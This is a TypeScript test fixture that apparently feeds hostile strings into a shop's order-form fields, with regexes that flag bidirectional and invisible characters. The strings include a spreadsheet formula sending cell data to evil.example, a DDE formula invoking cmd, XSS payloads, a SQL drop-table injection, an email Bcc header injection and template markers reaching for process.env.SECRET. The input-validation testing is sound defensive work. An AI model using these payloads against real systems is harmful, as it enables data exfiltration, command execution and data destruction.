/**
 * Texts that are written into each field of an order that takes text, by their names; `{{ }}` are the marks
 * of the shop's own templates.
 */
export const HOSTILE: [string, string][] = [
  ['turned around', 'Олена \u202E\u2066цинорк\u2069\u200F'],
  ['unseen', 'Оле\u200B\u2060\uFEFFна\u00AD Ко\u200Dваль'],
  ['a formula', '=HYPERLINK("http://evil.example/?"&A1;"Олена")'],
  ['another formula', "\u200B@SUM(1+1)*cmd|' /C calc'!A0"],
  ['markup', '<script>alert(1)</script><img src=x onerror=alert(1)>'],
  ['closing marks', '</b></a></textarea></title>]]>--><!--'],
  ['quotes', `"' \` Олена \\" \\' &quot; &#39; \\`],
  ['lines', 'Олена\r\nBcc: all@evil.example\r\n\r\n<b>лист</b>\u2028\u2029\u0085'],
  ['marks upon marks', `Олена${'\u0301'.repeat(100)}`],
  ['pictures', 'Олена 👩‍👩‍👧‍👦🏳️‍🌈'],
  ['half a pair', 'Олена \uD83D і \uDC69 Коваль'],
  ['control characters', 'Оле\u0000на\u0007 \u001B[31mКоваль\u007F'],
  ['SQL', "Олена'); drop table orders; --"],
  ['template signs', '{{number}} {{#each lines}} %s %n ${process.env.SECRET} {%x%} <%= 1 %> Олена'],
]

export const BROKEN = /(?![\n\r\t])\p{Cc}|\p{Cs}/u
/** Characters that may stand in no line of a person's name or address. */
export const LEADING_AWAY = /[\p{Bidi_Control}\n\r\u2028\u2029\u200B\u2060\uFEFF\u00AD]|\p{L}\u200D\p{L}/u
/** Characters that may stand in no text, because they would turn around what the shop writes behind it. */
export const TURNING = /[\u202A-\u202E\u2066-\u2069]/
